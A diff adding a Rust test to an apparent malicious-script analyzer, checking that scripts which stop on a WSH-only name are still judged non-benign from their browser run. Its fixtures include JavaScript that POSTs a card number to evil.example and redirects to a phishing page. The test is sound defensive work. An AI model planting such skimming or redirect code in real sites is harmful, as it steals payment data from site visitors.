@@ -252,3 +252,40 @@ fn the_html_page_is_self_contained_and_shows_verdicts_reasons_and_timeline() {
     assert!(!html.contains("<script"));
     assert!(html.contains("default-src 'none'"));
 }
+
+#[test]
+fn stopping_on_another_hosts_name_does_not_throw_away_what_a_script_did() {
+    let dir = tempfile::tempdir().unwrap();
+    // The script skims in the browser, then stops on a name only WSH has: run in WSH as well
+    // (where it does nothing), the browser run is what counts.
+    let script = dir.path().join("skim.js");
+    std::fs::write(
+        &script,
+        "if (typeof document !== 'undefined') { fetch('https://evil.example/c', { method: 'POST', \
+         body: 'cardnumber=4111111111111111' }); location.href = 'https://evil.example/phish'; }\nWScript;\n",
+    )
+    .unwrap();
+    let o = airlock(&["analyze", "--json", script.to_str().unwrap()]);
+    let r = &reports(&o)[0];
+    assert_eq!(r["analysis"]["environment"], "browser", "{r}");
+    assert_ne!(r["verdict"]["verdict"], "benign", "{r}");
+    assert!(
+        r["analysis"]["notes"][0]
+            .as_str()
+            .unwrap()
+            .contains("also run in the wsh environment, where it showed less"),
+        "{r}"
+    );
+    // A page's blocks are separate scripts: one that stops on WScript does not stop the next,
+    // and the page is not run as a WSH script.
+    let page = dir.path().join("page.html");
+    std::fs::write(
+        &page,
+        "<html><script>WScript</script><script>location.href=\"https://evil.example/phish\";</script></html>",
+    )
+    .unwrap();
+    let o = airlock(&["analyze", "--json", page.to_str().unwrap()]);
+    let r = &reports(&o)[0];
+    assert_eq!(r["analysis"]["environment"], "browser", "{r}");
+    assert_ne!(r["verdict"]["verdict"], "benign", "{r}");
+}
